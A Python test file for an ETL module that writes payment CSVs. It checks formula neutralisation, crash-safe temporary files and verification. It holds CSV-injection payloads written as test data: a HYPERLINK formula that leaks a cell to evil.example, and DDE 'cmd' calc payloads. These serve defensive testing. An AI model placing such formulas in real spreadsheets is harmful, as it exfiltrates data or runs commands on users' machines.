"""The outbox writers: no live formula reaches a spreadsheet, no temporary file outlives a crash."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import stat
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from etl.io import outbox
from etl.io.outbox import begin_folder, csv_bytes, is_live_formula, sweep_temp_files, write_atomic, write_csv
from etl.payments.verify import PAYMENT_COLUMNS, verify_folder

REPO = Path(__file__).resolve().parents[3]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1",
    "+",
    "-",
    "@",
]


def _read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_are_live_and_written_inert(payload):
    assert is_live_formula(payload)
    data, n = csv_bytes(["payee_name", "account_holder"], [[payload, "plain"]])
    [_, row] = _read(data)
    assert n == 1 and row == ["'" + payload, "plain"]
    assert not is_live_formula(row[0])


@pytest.mark.parametrize(
    "cell", ["30000", "-5", "+82", "3.5", "-0.25", "", "plain", "'=already inert", " =x", "a=b", "김=1"]
)
def test_plain_numbers_and_text_are_not_formulas_and_are_written_as_is(cell):
    assert not is_live_formula(cell)
    assert _read(csv_bytes(["c"], [[cell]])[0])[1] == [cell]


@pytest.mark.parametrize("cell", ["-1+1", "+1-1", "-5e3", "-1,5", "--1", "-１"])
def test_number_like_formulas_are_live(cell):
    assert is_live_formula(cell)


def test_numbers_stay_numbers():
    data, _ = csv_bytes(["amount_krw", "n", "none"], [[30000, -5, None]])
    assert data.split(b"\r\n")[1] == b"30000,-5,"


def test_no_cell_csv_bytes_writes_is_a_live_formula():
    values = [None, -5, 30000, 1.5, -1e-05, Decimal("-1E+3"), True, "=x", "-", "+82 10 1234 5678", "\t", "@"]
    [header, row] = _read(csv_bytes([f"c{i}" for i in range(len(values))], [values])[0])
    assert not any(is_live_formula(cell) for cell in header + row)
    assert row[:5] == ["", "-5", "30000", "1.5", "'-1e-05"]


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.lists(
            st.one_of(
                st.none(),
                st.integers(),
                st.booleans(),
                st.floats(allow_nan=False),
                st.text(max_size=6),
                st.sampled_from(PAYLOADS),
                st.builds("".join, st.lists(st.sampled_from("=+-@\t\r1a.'"), max_size=4)),
            ),
            min_size=1,
            max_size=5,
        ),
        max_size=4,
    )
)
def test_csv_bytes_fast_path_writes_what_inert_would(rows):
    """csv_bytes skips the call for ints and for texts no trigger starts: the bytes are those of inert on every
    cell."""
    reference = io.StringIO()
    writer = csv.writer(reference, lineterminator="\r\n")
    writer.writerow(["c"])
    for row in rows:
        writer.writerow(["" if v is None else outbox.inert(v) for v in row])
    assert csv_bytes(["c"], rows) == (reference.getvalue().encode("utf-8"), len(rows))


def test_every_payment_column_is_neutralised(tmp_path):
    row = dict.fromkeys(PAYMENT_COLUMNS, "=1+1")
    row["amount_krw"] = 30000
    written = write_csv(tmp_path, "payments.csv", PAYMENT_COLUMNS, [[row[c] for c in PAYMENT_COLUMNS]])
    [_, cells] = _read((tmp_path / "payments.csv").read_bytes())
    assert written.rows == 1
    assert cells == ["'=1+1"] * 7 + ["30000"] + ["'=1+1"] * 2


# ---------- temporary files ----------


def test_begin_folder_sweeps_temporary_files_a_crash_left(tmp_path):
    folder = tmp_path / "payments" / "2022-10-16"
    script = (
        "import os, sys\n"
        "from pathlib import Path\n"
        "from etl.io import outbox\n"
        "os.replace = lambda *a: os._exit(3)  # die just before the rename, as a kill would\n"
        "outbox.write_atomic(Path(sys.argv[1]) / 'payments.csv', b'P1,2118607719,110432118290\\r\\n')\n"
    )
    done = subprocess.run([sys.executable, "-c", script, str(folder)], cwd=REPO, capture_output=True)
    assert done.returncode == 3, done.stderr
    left = [p.name for p in folder.iterdir()]
    assert len(left) == 1 and left[0].startswith(".payments.csv.") and left[0].endswith(".tmp")

    (folder / "payments.csv").write_bytes(b"kept")
    (folder / ".hidden-note").write_bytes(b"not ours")
    begin_folder(folder)
    assert sorted(p.name for p in folder.iterdir()) == [".hidden-note", "payments.csv"]


def test_sweep_leaves_folders_and_other_files(tmp_path):
    (tmp_path / ".x.tmp").mkdir()
    (tmp_path / ".a.csv.123.tmp").write_bytes(b"")
    (tmp_path / "a.tmp").write_bytes(b"")
    removed = sweep_temp_files(tmp_path)
    assert [p.name for p in removed] == [".a.csv.123.tmp"]
    assert sorted(p.name for p in tmp_path.iterdir()) == [".x.tmp", "a.tmp"]
    assert sweep_temp_files(tmp_path / "missing") == []


def test_modes_and_directory_fsync(tmp_path, monkeypatch):
    synced: list[bool] = []
    real_fsync = os.fsync

    def fsync(fd: int) -> None:
        synced.append(stat.S_ISDIR(os.fstat(fd).st_mode))
        real_fsync(fd)

    monkeypatch.setattr(os, "fsync", fsync)
    folder = tmp_path / "out" / "payments" / "2022-10-16"
    write_atomic(folder / "payments.csv", b"x")
    assert synced == [False, True]  # the file's data, then the folder's entry for the rename
    assert stat.S_IMODE((folder / "payments.csv").stat().st_mode) == outbox.FILE_MODE == 0o640
    for d in (folder, folder.parent, folder.parent.parent):
        assert stat.S_IMODE(d.stat().st_mode) == outbox.DIR_MODE == 0o750


# ---------- relief verify refuses a live formula ----------


def _publish(folder: Path, payee: str) -> None:
    payment = {
        "payment_id": "P1015-20221016-0000001",
        "claimant_key": "2118607719",
        "business_reg_no": "2118607719",
        "payee_name": payee,
        "bank_code": "004",
        "account_no": "11012345678901",
        "account_holder": "홍길동",
        "amount_krw": "30000",
        "basis": "tier_30000",
        "run_date": "2022-10-16",
    }
    data = ",".join(f'"{payment[c]}"' if c == "payee_name" else payment[c] for c in PAYMENT_COLUMNS)
    raw = (",".join(PAYMENT_COLUMNS) + "\r\n" + data + "\r\n").encode()
    begin_folder(folder)
    write_atomic(folder / "payments.csv", raw)
    digest = hashlib.sha256(raw).hexdigest()
    manifest = {
        "program": "kakao-1015",
        "run_date": "2022-10-16",
        "run_id": "t",
        "config_sha256": "0" * 64,
        "rows": 1,
        "control_sum_krw": 30000,
        "sha256": digest,
        "files": {"payments.csv": {"rows": 1, "sha256": digest, "bytes": len(raw)}},
    }
    write_atomic(folder / "manifest.json", json.dumps(manifest).encode())


def test_verify_fails_on_a_live_formula_without_printing_it(tmp_path, capsys):
    folder = tmp_path / "payments" / "2022-10-16"
    _publish(folder, '=HYPERLINK(""http://evil.example/"",""click"")')
    assert verify_folder(str(folder)) == 1
    err = capsys.readouterr().err
    assert "payments.csv line 2" in err and "payee_name" in err and "formula" in err
    assert "HYPERLINK" not in err and "evil" not in err


def test_verify_accepts_a_published_folder_whose_formula_payee_was_made_inert(ws, program, capsys):
    """The pipeline writes a payee `=HYPERLINK(...)` with the leading quote; the sealed folder verifies."""
    from tests.builders import claim

    ws.deliver("2022-10-15", [claim(receipt_no="F1", claimant_name='=HYPERLINK("http://evil.example/","click")')])
    ws.run(program, "2022-10-15")
    folder = ws.settings.outbox / "payments" / "2022-10-15"
    assert "'=HYPERLINK" in (folder / "payments.csv").read_text(encoding="utf-8")
    assert verify_folder(str(folder)) == 0, capsys.readouterr().err


def test_a_csv_is_written_as_its_rows_are_formatted_with_the_bytes_of_csv_bytes(tmp_path, monkeypatch):
    """A day's exclusions and payments are written a chunk of rows at a time, never the whole file in memory."""
    rows = [[n, f"=cmd{n}" if n % 3 else f"name {n}", None] for n in range(45_001)]
    data, n = csv_bytes(["n", "text", "none"], rows)
    sizes: list[int] = []
    real = outbox.write_stream
    monkeypatch.setattr(
        outbox, "write_stream", lambda path, chunks: real(path, (sizes.append(len(c)) or c for c in chunks))
    )
    written = write_csv(tmp_path, "exclusions.csv", ["n", "text", "none"], iter(rows))
    assert (tmp_path / "exclusions.csv").read_bytes() == data
    assert (written.rows, written.bytes, written.sha256) == (n, len(data), hashlib.sha256(data).hexdigest())
    assert n == 45_001 and len(sizes) == 3 and max(sizes) < len(data) / 2


def test_an_empty_csv_is_its_header():
    assert b"".join(outbox.csv_chunks(["a", "b"], [])) == b"a,b\r\n" == csv_bytes(["a", "b"], [])[0]
